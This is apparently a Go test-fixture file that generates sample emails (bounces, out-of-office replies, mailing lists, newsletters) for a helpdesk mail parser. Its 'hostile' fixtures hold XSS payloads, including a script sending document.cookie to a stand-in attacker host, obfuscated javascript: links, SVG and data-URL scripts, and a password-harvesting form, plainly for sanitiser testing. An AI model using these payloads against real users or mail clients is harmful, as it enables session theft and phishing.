Return-Path: <suporte@lojaexemplo.com.br>
From: Loja Exemplo <suporte@lojaexemplo.com.br>
To: antigo.cliente@hospedagem-exemplo.com.br
Subject: [#6300] Pesquisa de satisfação
Message-ID: <atende.6300.1720280000@lojaexemplo.com.br>

Responda nossa pesquisa.
`)
	add("bounce_exim_plain", `Return-path: <>
From: Mail Delivery System <Mailer-Daemon@servidor.exemplo.net>
To: help@contoso-example.com
Subject: Mail delivery failed: returning message to sender
Date: Sat, 06 Jul 2024 16:00:00 +0100
Message-Id: <E1sQabc-0001xY-Zz@servidor.exemplo.net>
X-Failed-Recipients: gone@exemplo.net
Auto-Submitted: auto-replied

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  gone@exemplo.net
    SMTP error from remote mail server after RCPT TO:<gone@exemplo.net>:
    550 No such user here

------ This is a copy of the message, including all the headers. ------

From: Contoso Help <help@contoso-example.com>
To: gone@exemplo.net
Subject: Your ticket #8001
Message-ID: <20240706155900.help.8001@contoso-example.com>

Hello.
`)
	add("bounce_ptbr_postmaster_plain", `From: "Postmaster" <postmaster@provedor-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: =?utf-8?Q?Mensagem_n=C3=A3o_entregue?=
Date: Sat, 6 Jul 2024 16:30:00 -0300
Message-ID: <ndr-ptbr-01@provedor-exemplo.com.br>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Sua mensagem não foi entregue aos seguintes destinatários:

    cliente.antigo@provedor-exemplo.com.br
    Motivo: 550 5.2.1 Caixa postal desativada

Cabeçalhos da mensagem original:
Message-ID: <atende.6500.1720290000@lojaexemplo.com.br>
Subject: [#6500] Atualização do pedido
`)
	add("postmaster_not_bounce", `From: Postmaster <postmaster@exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Manutenção programada
Date: Sat, 6 Jul 2024 17:00:00 -0300
Message-ID: <maint-01@exemplo.com.br>

O servidor de e-mail ficará fora do ar no domingo das 2h às 4h.
`)
}

func autoReplies() {
	add("autoreply_gmail_vacation_ptbr", `MIME-Version: 1.0
From: Mariana Souza <mariana.souza.teste@gmail.com>
Date: Sun, 7 Jul 2024 09:00:00 -0300
Message-ID: <CAF3x9YvacationAAA@mail.gmail.com>
Subject: =?UTF-8?Q?Resposta_autom=C3=A1tica:_Re:_[#6400]_Pedido?=
To: suporte@lojaexemplo.com.br
Auto-Submitted: auto-replied
Precedence: bulk
In-Reply-To: <atende.6400.1720350000@lojaexemplo.com.br>
References: <atende.6400.1720350000@lojaexemplo.com.br>
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Estou de f=C3=A9rias at=C3=A9 15/07, com acesso limitado ao e-mail.
`)
	add("autoreply_outlook_ooo_en", `From: Emily Carter <emily.carter@fabrikam-example.com>
To: Contoso Help <help@contoso-example.com>
Subject: Automatic reply: Your ticket #7100
Thread-Topic: Your ticket #7100
Date: Sun, 7 Jul 2024 12:00:00 +0000
Message-ID: <PH0PR19MB5132OOF0001@PH0PR19MB5132.namprd19.prod.outlook.com>
In-Reply-To: <20240707115900.help.7100@contoso-example.com>
Auto-Submitted: auto-generated
X-MS-Exchange-Inbox-Rules-Loop: emily.carter@fabrikam-example.com
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

I am out of the office until July 15 with no access to email.
`)
	add("autoreply_x_autoreply", `From: fernanda.rocha.teste@yahoo.com.br
To: suporte@lojaexemplo.com.br
Subject: Ausente
Date: Sun, 7 Jul 2024 13:00:00 -0300
Message-ID: <autoreply-yahoo-01@yahoo.com.br>
X-Autoreply: yes

Estou ausente, respondo na segunda.
`)
	add("autoreply_precedence", `From: vendas@fornecedor-exemplo.com.br
To: suporte@lojaexemplo.com.br
Subject: Recebemos sua mensagem
Date: Sun, 7 Jul 2024 13:05:00 -0300
Message-ID: <autoreply-prec-01@fornecedor-exemplo.com.br>
Precedence: auto_reply
X-Autorespond: Recebemos sua mensagem

Recebemos sua mensagem e responderemos em até 2 dias úteis.
`)
	add("auto_submitted_no", `From: ana.lima.teste@gmail.com
To: suporte@lojaexemplo.com.br
Subject: Mensagem normal
Date: Sun, 7 Jul 2024 13:10:00 -0300
Message-ID: <autosub-no-01@gmail.com>
Auto-Submitted: no

Mensagem escrita por uma pessoa.
`)
	add("xars_only_not_auto", `From: Roberto Dias <roberto.dias@construtora-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: Dúvida sobre entrega
Date: Sun, 7 Jul 2024 13:15:00 -0300
Message-ID: <xars-01@construtora-exemplo.com.br>
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset=utf-8

Outlook marca toda mensagem com X-Auto-Response-Suppress; isso não a torna automática.
`)
	add("mailing_list_mailman", `From: Pedro Alves <pedro.alves@exemplo.org>
To: usuarios@listas.exemplo.org
Subject: [usuarios] Problema com a versão 2.3
Date: Mon, 8 Jul 2024 09:00:00 -0300
Message-ID: <lista-01@exemplo.org>
Precedence: list
List-Id: Usuarios do Projeto <usuarios.listas.exemplo.org>
List-Unsubscribe: <https://listas.exemplo.org/mailman/options/usuarios>,
 <mailto:usuarios-request@listas.exemplo.org?subject=unsubscribe>
List-Post: <mailto:usuarios@listas.exemplo.org>
Sender: "usuarios" <usuarios-bounces@listas.exemplo.org>
Content-Type: text/plain; charset=utf-8

Alguém mais viu o erro ao atualizar?

_______________________________________________
usuarios mailing list
usuarios@listas.exemplo.org
https://listas.exemplo.org/mailman/listinfo/usuarios
`)
	add("newsletter_bulk", `From: Ofertas Exemplo <news@ofertas-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: =?utf-8?Q?=F0=9F=94=A5_Ofertas_da_semana?=
Date: Mon, 8 Jul 2024 10:00:00 -0300
Message-ID: <news-01@ofertas-exemplo.com.br>
Precedence: bulk
List-Unsubscribe: <https://ofertas-exemplo.com.br/u/abc123>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><link rel="stylesheet" href="https://ofertas-exemplo.com.br/news.css"></head><body><table width="600"><tr><td><img src="https://ofertas-exemplo.com.br/banner.jpg" alt="Banner" width="600"><p style="color:#333333;font-size:14px">Até 50% off!</p><a href="https://ofertas-exemplo.com.br/c?id=1">Ver ofertas</a><img src="http://track.ofertas-exemplo.com.br/open.gif?u=abc" width="1" height="1"></td></tr></table></body></html>
`)
	add("google_groups", `From: Tom Becker <tom.becker.test@gmail.com>
To: contoso-users@googlegroups.com
Subject: Feature request: export CSV
Date: Mon, 8 Jul 2024 11:00:00 +0100
Message-ID: <groups-thread-01@gmail.com>
List-Id: <contoso-users.googlegroups.com>
Mailing-list: list contoso-users@googlegroups.com; contact contoso-users+owners@googlegroups.com
List-Archive: <https://groups.google.com/group/contoso-users>
Content-Type: text/plain; charset=UTF-8

It would be nice to export tickets as CSV.

-- 
You received this message because you are subscribed to the Google Groups "Contoso Users" group.
`)
}

func hostile() {
	add("hostile_script", `From: atacante@malicioso-exemplo.net
To: suporte@lojaexemplo.com.br
Subject: Clique aqui
Date: Tue, 9 Jul 2024 09:00:00 -0300
Message-ID: <hostile-script-01@malicioso-exemplo.net>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body onload="alert(1)"><script>document.location='https://malicioso-exemplo.net/?c='+document.cookie</script>
<p onclick="steal()">Olá! <a href="javascript:alert(document.domain)">Ver fatura</a></p>
<img src="x" onerror="alert(2)">
<a href="JaVaScRiPt:alert(3)">Maiúsculas</a>
<a href="jav&#x09;ascript:alert(4)">Tab</a>
<a href="https://malicioso-exemplo.net/login" onmouseover="x()">Link normal</a>
</body></html>
`)
	add("hostile_svg", `From: atacante@malicioso-exemplo.net
To: suporte@lojaexemplo.com.br
Subject: SVG
Date: Tue, 9 Jul 2024 09:05:00 -0300
Message-ID: <hostile-svg-01@malicioso-exemplo.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="svg"

--svg
Content-Type: text/html; charset=utf-8

<div>Imagem:<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>clique</text></a></svg>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok">
<math><mtext><script>alert(5)</script></mtext></math></div>
--svg
Content-Type: image/svg+xml; name="logo.svg"
Content-Disposition: attachment; filename="logo.svg"

<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
--svg--
`)
	add("hostile_meta_css", `From: atacante@malicioso-exemplo.net
To: suporte@lojaexemplo.com.br
Subject: meta e css
Date: Tue, 9 Jul 2024 09:10:00 -0300
Message-ID: <hostile-meta-01@malicioso-exemplo.net>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://malicioso-exemplo.net/"><base href="https://malicioso-exemplo.net/"><link rel="stylesheet" href="https://malicioso-exemplo.net/x.css"><style>@import url(https://malicioso-exemplo.net/y.css); body{background:url(https://malicioso-exemplo.net/t.gif)}</style></head>
<body><p style="background-image:url('https://malicioso-exemplo.net/track.png');color:red">Texto vermelho</p>
<div style="width:expression(alert(1));position:fixed;top:0;left:0">Sobreposição</div>
<a href="relativo/pagina.html">Relativo</a></body></html>
`)
	add("hostile_forms_iframe", `From: atacante@malicioso-exemplo.net
To: suporte@lojaexemplo.com.br
Subject: formulario
Date: Tue, 9 Jul 2024 09:15:00 -0300
Message-ID: <hostile-form-01@malicioso-exemplo.net>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Confirme sua senha:</p>
<form action="https://malicioso-exemplo.net/roubar" method="post"><input type="password" name="senha"><button type="submit">Enviar</button></form>
<iframe src="https://malicioso-exemplo.net/frame"></iframe>
<object data="https://malicioso-exemplo.net/x.swf"></object><embed src="https://malicioso-exemplo.net/y.swf">
<p>Fim.</p>
`)
	add("hostile_data_urls", `From: atacante@malicioso-exemplo.net
To: suporte@lojaexemplo.com.br
Subject: data urls
Date: Tue, 9 Jul 2024 09:20:00 -0300
Message-ID: <hostile-data-01@malicioso-exemplo.net>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">abrir</a>
<img src="data:text/html,<script>alert(1)</script>">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<a href="vbscript:msgbox(1)">vb</a>
<a href="mailto:contato@exemplo.com.br">mail</a>
`)
	add("hostile_cid_and_remote", `From: Loja Parceira <contato@parceira-exemplo.com.br>
To: suporte@lojaexemplo.com.br
Subject: imagens
Date: Tue, 9 Jul 2024 09:25:00 -0300
Message-ID: <cid-remote-01@parceira-exemplo.com.br>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rr"

--rr
Content-Type: text/html; charset=utf-8

<p><img src="cid:logo%40parceira" alt="logo"> <img src="HTTPS://cdn.parceira-exemplo.com.br/a.png" onerror="x()"> <img src="//cdn.parceira-exemplo.com.br/b.png"></p>
--rr
Content-Type: image/png
Content-ID: <logo@parceira>
Content-Disposition: inline

`+tinyPNGRaw()+`
--rr--
`)
	add("hostile_8bit_garbage_headers", "From: \xff\xfe\x00bad <\xc3\x28@exemplo.com.br>\n"+
		"To: suporte@lojaexemplo.com.br\n"+
		"Subject: \xe9\xe8\xff invalid \xc3\x28 utf8\n"+
		"Date: Tue, 9 Jul 2024 09:30:00 -0300\n"+
		"Message-ID: <\xffgarbage@exemplo.com.br>\n"+
		"Content-Type: text/plain; charset=utf-8\n\n"+
		"Body \xff\xfe invalid \xc3\x28 bytes.\n")
}

// tinyPNGRaw is a PNG that is not base64 encoded (binary part, no CTE).
func tinyPNGRaw() string { return "BINARYPNG" }

// uuencode encodes data as one uuencoded block ("begin 644 name" ... "end").
func uuencode(name, data string) string {
	var b strings.Builder
	b.WriteString("begin 644 " + name + "\n")
	ch := func(v byte) byte {
		if v == 0 {
			return '`'
		}
		return v + ' '
	}
	for i := 0; i < len(data); i += 45 {
		line := data[i:min(i+45, len(data))]
		b.WriteByte(ch(byte(len(line))))
		for j := 0; j < len(line); j += 3 {
			var c [3]byte
			copy(c[:], line[j:min(j+3, len(line))])
			b.WriteByte(ch(c[0] >> 2))
			b.WriteByte(ch((c[0]<<4 | c[1]>>4) & 63))
			b.WriteByte(ch((c[1]<<2 | c[2]>>6) & 63))
			b.WriteByte(ch(c[2] & 63))
		}
		b.WriteByte('\n')
	}
	b.WriteString("`\nend\n")
	return b.String()
}
